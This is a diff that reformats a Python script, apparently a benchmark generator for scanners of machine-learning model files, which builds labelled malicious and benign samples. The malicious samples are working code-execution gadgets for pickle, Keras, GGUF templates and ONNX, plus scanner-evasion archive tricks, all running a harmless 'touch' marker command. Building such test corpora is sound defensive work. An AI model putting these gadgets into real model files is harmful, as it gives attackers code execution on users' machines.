@@ -41,7 +41,11 @@ CMD = f"touch {MARKER}"
 
 def s(text: str) -> bytes:
     raw = text.encode()
-    return (b"\x8c" + bytes([len(raw)]) + raw) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw
+    return (
+        (b"\x8c" + bytes([len(raw)]) + raw)
+        if len(raw) < 256
+        else b"X" + struct.pack("<I", len(raw)) + raw
+    )
 
 
 def g(module: str, name: str) -> bytes:
@@ -59,12 +63,21 @@ def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> by
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compression=method) as zf:
         for name, data in members.items():
-            zf.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=method)
+            zf.writestr(
+                zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=method
+            )
     return buf.getvalue()
 
 
 def torch_zip(pkl: bytes, top: str = "archive") -> bytes:
-    return zip_bytes({f"{top}/data.pkl": pkl, f"{top}/version": b"3\n", f"{top}/byteorder": b"little", f"{top}/data/0": b"\0" * 16})
+    return zip_bytes(
+        {
+            f"{top}/data.pkl": pkl,
+            f"{top}/version": b"3\n",
+            f"{top}/byteorder": b"little",
+            f"{top}/data/0": b"\0" * 16,
+        }
+    )
 
 
 def npy_object(payload: bytes) -> bytes:
@@ -105,10 +118,21 @@ def _pb(num: int, payload: bytes | str) -> bytes:
 
 
 def _onnx_external(location: str) -> bytes:
-    tensor = _pb(8, "w") + _pb_varint(13 << 3) + _pb_varint(1) + _pb(14, _pb(1, "location") + _pb(2, location))
+    tensor = (
+        _pb(8, "w")
+        + _pb_varint(13 << 3)
+        + _pb_varint(1)
+        + _pb(14, _pb(1, "location") + _pb(2, location))
+    )
     node = _pb(1, "x") + _pb(2, "y") + _pb(4, "Relu")
     graph = _pb(1, node) + _pb(2, "g") + _pb(5, tensor)
-    return _pb_varint(1 << 3) + _pb_varint(8) + _pb(2, "bench") + _pb(7, graph) + _pb(8, _pb_varint(2 << 3) + _pb_varint(17))
+    return (
+        _pb_varint(1 << 3)
+        + _pb_varint(8)
+        + _pb(2, "bench")
+        + _pb(7, graph)
+        + _pb(8, _pb_varint(2 << 3) + _pb_varint(17))
+    )
 
 
 def _saved_model(op: str) -> bytes:
@@ -117,14 +141,31 @@ def _saved_model(op: str) -> bytes:
 
 
 def _keras(layer: dict) -> bytes:
-    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}, "registered_name": None}
-    return zip_bytes({"metadata.json": b'{"keras_version": "3.9.0"}', "config.json": json.dumps(config).encode(), "model.weights.h5": b""})
+    config = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {"name": "s", "layers": [layer]},
+        "registered_name": None,
+    }
+    return zip_bytes(
+        {
+            "metadata.json": b'{"keras_version": "3.9.0"}',
+            "config.json": json.dumps(config).encode(),
+            "model.weights.h5": b"",
+        }
+    )
 
 
 LAMBDA = {
     "module": "keras.layers",
     "class_name": "Lambda",
-    "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}},
+    "config": {
+        "name": "evil",
+        "function": {
+            "class_name": "__lambda__",
+            "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None},
+        },
+    },
     "registered_name": None,
 }
 
@@ -167,63 +208,211 @@ def _seven_zip() -> bytes:
 
 def malicious() -> dict[str, tuple[str, bytes]]:
     """name -> (technique, bytes)."""
-    gadgets = {
+    return {
         "m01_os_system.pkl": ("GLOBAL os.system + REDUCE", EVIL),
         "m02_posix_system.pkl": ("posix.system alias", call1("posix", "system", CMD)),
-        "m03_subprocess_popen.pkl": ("subprocess.Popen with an argument list", P2 + g("subprocess", "Popen") + b"]" + s("touch") + s(MARKER) + b"\x86e\x85R."),
-        "m04_builtins_eval.pkl": ("builtins.eval", call1("builtins", "eval", f"__import__('os').system('{CMD}')")),
-        "m05_builtins_exec.pkl": ("builtins.exec", call1("builtins", "exec", f"import os; os.system('{CMD}')")),
+        "m03_subprocess_popen.pkl": (
+            "subprocess.Popen with an argument list",
+            P2 + g("subprocess", "Popen") + b"]" + s("touch") + s(MARKER) + b"\x86e\x85R.",
+        ),
+        "m04_builtins_eval.pkl": (
+            "builtins.eval",
+            call1("builtins", "eval", f"__import__('os').system('{CMD}')"),
+        ),
+        "m05_builtins_exec.pkl": (
+            "builtins.exec",
+            call1("builtins", "exec", f"import os; os.system('{CMD}')"),
+        ),
         "m06_getattr_chain.pkl": (
             "getattr(__import__('os'), 'system') without a direct os global",
-            P2 + g("builtins", "getattr") + g("builtins", "__import__") + s("os") + b"\x85R" + s("system") + b"\x86R" + s(CMD) + b"\x85R.",
+            P2
+            + g("builtins", "getattr")
+            + g("builtins", "__import__")
+            + s("os")
+            + b"\x85R"
+            + s("system")
+            + b"\x86R"
+            + s(CMD)
+            + b"\x85R.",
         ),
-        "m07_pip_main.pkl": ("pip.main (CVE-2025-1716)", P2 + g("pip", "main") + b"]" + s("install") + s("--help") + b"\x86e\x85R."),
-        "m08_runpy.pkl": ("runpy._run_code", P2 + g("runpy", "_run_code") + s(f"import os; os.system('{CMD}')") + b"}\x86R."),
-        "m09_importlib.pkl": ("importlib.import_module then getattr", P2 + g("builtins", "getattr") + g("importlib", "import_module") + s("os") + b"\x85R" + s("system") + b"\x86R" + s(CMD) + b"\x85R."),
-        "m10_attrgetter.pkl": ("operator.attrgetter gadget", P2 + g("operator", "attrgetter") + s("system") + b"\x85R" + g("os", "path") + b"\x85R."),
-        "m11_stack_global_memo.pkl": ("STACK_GLOBAL fed from memo via DUP", P4 + s("os") + b"2q\x010" + s("system") + b"q\x020h\x01h\x02\x93" + s(CMD) + b"\x85R."),
+        "m07_pip_main.pkl": (
+            "pip.main (CVE-2025-1716)",
+            P2 + g("pip", "main") + b"]" + s("install") + s("--help") + b"\x86e\x85R.",
+        ),
+        "m08_runpy.pkl": (
+            "runpy._run_code",
+            P2 + g("runpy", "_run_code") + s(f"import os; os.system('{CMD}')") + b"}\x86R.",
+        ),
+        "m09_importlib.pkl": (
+            "importlib.import_module then getattr",
+            P2
+            + g("builtins", "getattr")
+            + g("importlib", "import_module")
+            + s("os")
+            + b"\x85R"
+            + s("system")
+            + b"\x86R"
+            + s(CMD)
+            + b"\x85R.",
+        ),
+        "m10_attrgetter.pkl": (
+            "operator.attrgetter gadget",
+            P2 + g("operator", "attrgetter") + s("system") + b"\x85R" + g("os", "path") + b"\x85R.",
+        ),
+        "m11_stack_global_memo.pkl": (
+            "STACK_GLOBAL fed from memo via DUP",
+            P4 + s("os") + b"2q\x010" + s("system") + b"q\x020h\x01h\x02\x93" + s(CMD) + b"\x85R.",
+        ),
         "m12_protocol0.pkl": ("protocol 0 text opcodes", f"cos\nsystem\n(S'{CMD}'\ntR.".encode()),
         "m13_inst.pkl": ("INST opcode", f"(S'{CMD}'\nios\nsystem\n.".encode()),
         "m14_obj.pkl": ("OBJ opcode", P2 + b"(" + g("os", "system") + s(CMD) + b"o."),
-        "m15_newobj_ex.pkl": ("NEWOBJ_EX with subprocess.Popen", P4 + g("subprocess", "Popen") + b"]" + s("touch") + s(MARKER) + b"\x86e\x85}\x92."),
-        "m16_marshal_function.pkl": ("marshal.loads + types.FunctionType", P2 + g("types", "FunctionType") + g("marshal", "loads") + b"C\x04\xe3\x00\x00\x00\x85R}\x86R)R."),
-        "m17_pkgutil_resolve.pkl": ("pkgutil.resolve_name('os:system')", P2 + g("pkgutil", "resolve_name") + s("os:system") + b"\x85R" + s(CMD) + b"\x85R."),
-        "m18_spawnv_passfds.pkl": ("multiprocessing.util.spawnv_passfds", P2 + g("multiprocessing.util", "spawnv_passfds") + s("/usr/bin/touch") + b"]" + s("touch") + s(MARKER) + b"\x86e)\x87R."),
-        "m19_collect_env_run.pkl": ("torch.utils.collect_env.run", call1("torch.utils.collect_env", "run", CMD)),
-        "m20_payload_then_broken.pkl": ("payload then a broken stream (nullifAI)", EVIL[:-1] + b"\xff\xfe\xfd broken"),
+        "m15_newobj_ex.pkl": (
+            "NEWOBJ_EX with subprocess.Popen",
+            P4 + g("subprocess", "Popen") + b"]" + s("touch") + s(MARKER) + b"\x86e\x85}\x92.",
+        ),
+        "m16_marshal_function.pkl": (
+            "marshal.loads + types.FunctionType",
+            P2
+            + g("types", "FunctionType")
+            + g("marshal", "loads")
+            + b"C\x04\xe3\x00\x00\x00\x85R}\x86R)R.",
+        ),
+        "m17_pkgutil_resolve.pkl": (
+            "pkgutil.resolve_name('os:system')",
+            P2 + g("pkgutil", "resolve_name") + s("os:system") + b"\x85R" + s(CMD) + b"\x85R.",
+        ),
+        "m18_spawnv_passfds.pkl": (
+            "multiprocessing.util.spawnv_passfds",
+            P2
+            + g("multiprocessing.util", "spawnv_passfds")
+            + s("/usr/bin/touch")
+            + b"]"
+            + s("touch")
+            + s(MARKER)
+            + b"\x86e)\x87R.",
+        ),
+        "m19_collect_env_run.pkl": (
+            "torch.utils.collect_env.run",
+            call1("torch.utils.collect_env", "run", CMD),
+        ),
+        "m20_payload_then_broken.pkl": (
+            "payload then a broken stream (nullifAI)",
+            EVIL[:-1] + b"\xff\xfe\xfd broken",
+        ),
         "m21_odd_extension.weights": ("pickle under a non-model extension (CVE-2025-1889)", EVIL),
         "m22_raw_pickle.bin": ("raw pickle named .bin (CVE-2025-10155)", EVIL),
         "m23_object_array.npy": ("NumPy object array", npy_object(EVIL)),
-        "m24_object_array.npz": ("NumPy .npz with an object array", zip_bytes({"arr_0.npy": npy_object(EVIL)})),
+        "m24_object_array.npz": (
+            "NumPy .npz with an object array",
+            zip_bytes({"arr_0.npy": npy_object(EVIL)}),
+        ),
         "m25_joblib_zlib.joblib": ("joblib zlib compression", zlib.compress(EVIL, 3)),
-        "m26_bundle.tar.gz": ("tar.gz bundle", gzip.compress(_tar({"bundle/model.pkl": EVIL}), mtime=0)),
+        "m26_bundle.tar.gz": (
+            "tar.gz bundle",
+            gzip.compress(_tar({"bundle/model.pkl": EVIL}), mtime=0),
+        ),
         "m27_torch_zip.pt": ("PyTorch zip with malicious data.pkl", torch_zip(EVIL)),
-        "m28_nested_pickle.pkl": ("pickle.loads of a nested pickle", P2 + g("pickle", "loads") + b"C" + bytes([len(EVIL)]) + EVIL + b"\x85R."),
-        "m29_zip_flag_bits.pt": ("zip encrypted flag bit set (CVE-2025-1945)", _flag_bits(torch_zip(EVIL))),
-        "m30_zip_name_mismatch.pt": ("zip local/central name mismatch (CVE-2025-1944)", _name_mismatch(torch_zip(EVIL))),
-        "m31_bad_crc.pt": ("zip member with a bad CRC (CVE-2025-10156)", _bad_crc(torch_zip(EVIL + b"N" * 8000))),
-        "m32_legacy_torch_4th.pt": ("legacy torch format, payload in the 4th pickle", _legacy_torch(3)),
-        "m33_pickle_zip_polyglot.pt": ("pickle + zip polyglot", EVIL + torch_zip(pickle.dumps({"w": 1}, protocol=2))),
+        "m28_nested_pickle.pkl": (
+            "pickle.loads of a nested pickle",
+            P2 + g("pickle", "loads") + b"C" + bytes([len(EVIL)]) + EVIL + b"\x85R.",
+        ),
+        "m29_zip_flag_bits.pt": (
+            "zip encrypted flag bit set (CVE-2025-1945)",
+            _flag_bits(torch_zip(EVIL)),
+        ),
+        "m30_zip_name_mismatch.pt": (
+            "zip local/central name mismatch (CVE-2025-1944)",
+            _name_mismatch(torch_zip(EVIL)),
+        ),
+        "m31_bad_crc.pt": (
+            "zip member with a bad CRC (CVE-2025-10156)",
+            _bad_crc(torch_zip(EVIL + b"N" * 8000)),
+        ),
+        "m32_legacy_torch_4th.pt": (
+            "legacy torch format, payload in the 4th pickle",
+            _legacy_torch(3),
+        ),
+        "m33_pickle_zip_polyglot.pt": (
+            "pickle + zip polyglot",
+            EVIL + torch_zip(pickle.dumps({"w": 1}, protocol=2)),
+        ),
         "m34_7z_wrapped.pt": ("7z-wrapped archive (nullifAI)", _seven_zip()),
         "m35_zip_in_zip.zip": ("zip inside zip", zip_bytes({"inner/model.pt": torch_zip(EVIL)})),
-        "m36_torchscript_setstate.pt": ("TorchScript __setstate__ (CVE-2025-32434 class)", _torchscript_setstate()),
+        "m36_torchscript_setstate.pt": (
+            "TorchScript __setstate__ (CVE-2025-32434 class)",
+            _torchscript_setstate(),
+        ),
         "m37_keras_lambda.keras": ("Keras Lambda layer (CVE-2024-3660)", _keras(LAMBDA)),
         "m38_keras_nested_lambda.keras": (
             "Lambda nested inside a Functional model",
-            _keras({"module": "keras", "class_name": "Functional", "config": {"name": "f", "layers": [{"module": "keras", "class_name": "Sequential", "config": {"layers": [LAMBDA]}, "registered_name": None}]}, "registered_name": None}),
+            _keras(
+                {
+                    "module": "keras",
+                    "class_name": "Functional",
+                    "config": {
+                        "name": "f",
+                        "layers": [
+                            {
+                                "module": "keras",
+                                "class_name": "Sequential",
+                                "config": {"layers": [LAMBDA]},
+                                "registered_name": None,
+                            }
+                        ],
+                    },
+                    "registered_name": None,
+                }
+            ),
         ),
-        "m39_keras_module_ref.keras": ("Keras config importing os.system (CVE-2025-1550)", _keras({"module": "os", "class_name": "system", "config": {"command": CMD}, "registered_name": None})),
-        "m40_h5_lambda.h5": ("HDF5 model_config with a Lambda", b"\x89HDF\r\n\x1a\n" + b"\0" * 504 + json.dumps({"class_name": "Sequential", "config": {"layers": [LAMBDA]}}).encode() + b"\0" * 64),
-        "m41_gguf_jinja.gguf": ("GGUF chat template escaping the sandbox (CVE-2024-34359)", _gguf("{{ self.__init__.__globals__.__builtins__.__import__('os').system('" + CMD + "') }}")),
-        "m42_onnx_traversal.onnx": ("ONNX external data traversal (CVE-2024-27318)", _onnx_external("sub/../../../../etc/hostname")),
+        "m39_keras_module_ref.keras": (
+            "Keras config importing os.system (CVE-2025-1550)",
+            _keras(
+                {
+                    "module": "os",
+                    "class_name": "system",
+                    "config": {"command": CMD},
+                    "registered_name": None,
+                }
+            ),
+        ),
+        "m40_h5_lambda.h5": (
+            "HDF5 model_config with a Lambda",
+            b"\x89HDF\r\n\x1a\n"
+            + b"\0" * 504
+            + json.dumps({"class_name": "Sequential", "config": {"layers": [LAMBDA]}}).encode()
+            + b"\0" * 64,
+        ),
+        "m41_gguf_jinja.gguf": (
+            "GGUF chat template escaping the sandbox (CVE-2024-34359)",
+            _gguf(
+                "{{ self.__init__.__globals__.__builtins__.__import__('os').system('"
+                + CMD
+                + "') }}"
+            ),
+        ),
+        "m42_onnx_traversal.onnx": (
+            "ONNX external data traversal (CVE-2024-27318)",
+            _onnx_external("sub/../../../../etc/hostname"),
+        ),
         "m43_tf_writefile.pb": ("TensorFlow SavedModel WriteFile op", _saved_model("WriteFile")),
-        "m44_proto0_in_zip.pt": ("protocol-0 data.pkl in a torch zip", torch_zip(f"cos\nsystem\n(S'{CMD}'\ntR.".encode())),
-        "m45_functools_partial.pkl": ("functools.partial(os.system)", P2 + g("functools", "partial") + g("os", "system") + s(CMD) + b"\x86R)R."),
-        "m46_numpy_runstring.pkl": ("numpy.testing runstring", P2 + g("numpy.testing._private.utils", "runstring") + s(f"import os; os.system('{CMD}')") + b"}\x86R."),
+        "m44_proto0_in_zip.pt": (
+            "protocol-0 data.pkl in a torch zip",
+            torch_zip(f"cos\nsystem\n(S'{CMD}'\ntR.".encode()),
+        ),
+        "m45_functools_partial.pkl": (
+            "functools.partial(os.system)",
+            P2 + g("functools", "partial") + g("os", "system") + s(CMD) + b"\x86R)R.",
+        ),
+        "m46_numpy_runstring.pkl": (
+            "numpy.testing runstring",
+            P2
+            + g("numpy.testing._private.utils", "runstring")
+            + s(f"import os; os.system('{CMD}')")
+            + b"}\x86R.",
+        ),
         "m47_bz2_joblib.joblib": ("joblib bz2 compression", bz2.compress(EVIL)),
         "m48_xz_pickle.pkl.xz": ("xz-compressed pickle", lzma.compress(EVIL)),
     }
-    return gadgets
 
 
 def _tar(members: dict[str, bytes]) -> bytes:
@@ -286,32 +475,118 @@ def benign(out: Path) -> dict[str, str]:
     y = (X[:, 0] > 0).astype(int)
     net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
     items: dict[str, tuple[str, Callable[[Path], object]]] = {
-        "b01_state_dict.pt": ("torch.save state_dict (zip)", lambda p: torch.save(net.state_dict(), p)),
-        "b02_legacy.pt": ("torch.save legacy format", lambda p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False)),
+        "b01_state_dict.pt": (
+            "torch.save state_dict (zip)",
+            lambda p: torch.save(net.state_dict(), p),
+        ),
+        "b02_legacy.pt": (
+            "torch.save legacy format",
+            lambda p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False),
+        ),
         "b03_checkpoint.ckpt": (
             "training checkpoint with optimizer state",
-            lambda p: torch.save({"model": net.state_dict(), "optim": torch.optim.Adam(net.parameters()).state_dict(), "epoch": 3}, p),
+            lambda p: torch.save(
+                {
+                    "model": net.state_dict(),
+                    "optim": torch.optim.Adam(net.parameters()).state_dict(),
+                    "epoch": 3,
+                },
+                p,
+            ),
         ),
         "b04_torchscript.pt": ("TorchScript module", lambda p: torch.jit.script(net).save(str(p))),
-        "b05_bf16_int8.pt": ("state dict of bf16 and int8 tensors", lambda p: torch.save({"a": torch.ones(4, dtype=torch.bfloat16), "b": torch.ones(4, dtype=torch.int8)}, p)),
+        "b05_bf16_int8.pt": (
+            "state dict of bf16 and int8 tensors",
+            lambda p: torch.save(
+                {"a": torch.ones(4, dtype=torch.bfloat16), "b": torch.ones(4, dtype=torch.int8)}, p
+            ),
+        ),
         "b06_array.npy": ("NumPy float array", lambda p: np.save(p, rng.normal(size=(16, 16)))),
         "b07_arrays.npz": ("NumPy .npz", lambda p: np.savez(p, a=np.arange(10), b=np.ones((3, 3)))),
-        "b08_logreg.pkl": ("scikit-learn LogisticRegression pickle", lambda p: p.write_bytes(pickle.dumps(LogisticRegression().fit(X, y)))),
-        "b09_forest.joblib": ("scikit-learn RandomForest, joblib zlib", lambda p: joblib.dump(RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y), p, compress=3)),
-        "b10_pipeline.joblib": ("scikit-learn Pipeline, joblib", lambda p: joblib.dump(make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y), p)),
-        "b11_numpy.joblib": ("joblib of numpy arrays", lambda p: joblib.dump({"w": rng.normal(size=(8, 8))}, p)),
-        "b12_weights.safetensors": ("safetensors from torch", lambda p: save_file({k: v.contiguous() for k, v in net.state_dict().items()}, str(p))),
-        "b13_model.gguf": ("GGUF with a benign chat template", lambda p: _write_gguf(GGUFWriter, p, np)),
-        "b14_inline.onnx": ("ONNX with inline weights", lambda p: onnx.save(_onnx_model(helper, numpy_helper, TensorProto, np), str(p))),
-        "b15_external.onnx": ("ONNX with external data beside it", lambda p: onnx.save(_onnx_model(helper, numpy_helper, TensorProto, np), str(p), save_as_external_data=True, all_tensors_to_one_file=True, location="b15_external.onnx.data", size_threshold=0)),
+        "b08_logreg.pkl": (
+            "scikit-learn LogisticRegression pickle",
+            lambda p: p.write_bytes(pickle.dumps(LogisticRegression().fit(X, y))),
+        ),
+        "b09_forest.joblib": (
+            "scikit-learn RandomForest, joblib zlib",
+            lambda p: joblib.dump(
+                RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y), p, compress=3
+            ),
+        ),
+        "b10_pipeline.joblib": (
+            "scikit-learn Pipeline, joblib",
+            lambda p: joblib.dump(
+                make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y), p
+            ),
+        ),
+        "b11_numpy.joblib": (
+            "joblib of numpy arrays",
+            lambda p: joblib.dump({"w": rng.normal(size=(8, 8))}, p),
+        ),
+        "b12_weights.safetensors": (
+            "safetensors from torch",
+            lambda p: save_file({k: v.contiguous() for k, v in net.state_dict().items()}, str(p)),
+        ),
+        "b13_model.gguf": (
+            "GGUF with a benign chat template",
+            lambda p: _write_gguf(GGUFWriter, p, np),
+        ),
+        "b14_inline.onnx": (
+            "ONNX with inline weights",
+            lambda p: onnx.save(_onnx_model(helper, numpy_helper, TensorProto, np), str(p)),
+        ),
+        "b15_external.onnx": (
+            "ONNX with external data beside it",
+            lambda p: onnx.save(
+                _onnx_model(helper, numpy_helper, TensorProto, np),
+                str(p),
+                save_as_external_data=True,
+                all_tensors_to_one_file=True,
+                location="b15_external.onnx.data",
+                size_threshold=0,
+            ),
+        ),
         "b16_model.keras": ("Keras 3 .keras", lambda p: _keras_model(keras).save(p)),
         "b17_model.h5": ("Keras legacy HDF5", lambda p: _keras_model(keras).save(p)),
-        "b18_p0_dict.pkl": ("protocol-0 pickle of plain data", lambda p: p.write_bytes(pickle.dumps({"a": [1, 2.5, "x"]}, protocol=0))),
-        "b19_p2_ordereddict.pkl": ("OrderedDict pickle", lambda p: p.write_bytes(pickle.dumps(__import__("collections").OrderedDict(a=1), protocol=2))),
-        "b20_datetime.pkl": ("datetime pickle", lambda p: p.write_bytes(pickle.dumps(__import__("datetime").datetime(2026, 1, 1), protocol=2))),
-        "b21_p5_numpy.pkl": ("protocol-5 pickle of a numpy array", lambda p: p.write_bytes(pickle.dumps(rng.normal(size=(4, 4)), protocol=5))),
-        "b22_bundle.zip": ("zip bundle of a state dict and a config", lambda p: p.write_bytes(zip_bytes({"model/weights.pt": _bytes_of(lambda q: torch.save(net.state_dict(), q)), "model/config.json": b'{"hidden_size": 8}'}))),
-        "b23_config.json": ("Hugging Face style config.json", lambda p: p.write_text(json.dumps({"architectures": ["BertModel"], "hidden_size": 768, "model_type": "bert"}))),
+        "b18_p0_dict.pkl": (
+            "protocol-0 pickle of plain data",
+            lambda p: p.write_bytes(pickle.dumps({"a": [1, 2.5, "x"]}, protocol=0)),
+        ),
+        "b19_p2_ordereddict.pkl": (
+            "OrderedDict pickle",
+            lambda p: p.write_bytes(
+                pickle.dumps(__import__("collections").OrderedDict(a=1), protocol=2)
+            ),
+        ),
+        "b20_datetime.pkl": (
+            "datetime pickle",
+            lambda p: p.write_bytes(
+                pickle.dumps(__import__("datetime").datetime(2026, 1, 1), protocol=2)
+            ),
+        ),
+        "b21_p5_numpy.pkl": (
+            "protocol-5 pickle of a numpy array",
+            lambda p: p.write_bytes(pickle.dumps(rng.normal(size=(4, 4)), protocol=5)),
+        ),
+        "b22_bundle.zip": (
+            "zip bundle of a state dict and a config",
+            lambda p: p.write_bytes(
+                zip_bytes(
+                    {
+                        "model/weights.pt": _bytes_of(lambda q: torch.save(net.state_dict(), q)),
+                        "model/config.json": b'{"hidden_size": 8}',
+                    }
+                )
+            ),
+        ),
+        "b23_config.json": (
+            "Hugging Face style config.json",
+            lambda p: p.write_text(
+                json.dumps(
+                    {"architectures": ["BertModel"], "hidden_size": 768, "model_type": "bert"}
+                )
+            ),
+        ),
     }
     written: dict[str, str] = {}
     for name, (what, make) in items.items():
@@ -329,7 +604,9 @@ def _bytes_of(save: Callable[[io.BytesIO], object]) -> bytes:
 def _write_gguf(writer_cls, path: Path, np) -> None:
     w = writer_cls(str(path), "llama")
     w.add_uint32("llama.context_length", 128)
-    w.add_chat_template("{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}")
+    w.add_chat_template(
+        "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"
+    )
     w.add_tensor("tok_embd.weight", np.ones((4, 4), dtype=np.float32))
     w.write_header_to_file()
     w.write_kv_data_to_file()
@@ -340,7 +617,13 @@ def _write_gguf(writer_cls, path: Path, np) -> None:
 def _onnx_model(helper, numpy_helper, TensorProto, np):  # noqa: N803 - the library's name
     w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), name="W")
     node = helper.make_node("MatMul", ["X", "W"], ["Y"])
-    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])], [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])], [w])
+    graph = helper.make_graph(
+        [node],
+        "g",
+        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
+        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
+        [w],
+    )
     return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
 
 
@@ -386,7 +669,9 @@ def main() -> int:
         (args.out / "big").mkdir(exist_ok=True)
         labels["big"] = big(args.out / "big")
     (args.out / "labels.json").write_text(json.dumps(labels, indent=2) + "\n")
-    print(f"{len(labels['malicious'])} malicious, {len(labels['benign'])} benign, {len(labels['big'])} big files in {args.out}")
+    print(
+        f"{len(labels['malicious'])} malicious, {len(labels['benign'])} benign, {len(labels['big'])} big files in {args.out}"
+    )
     return 0
 
 
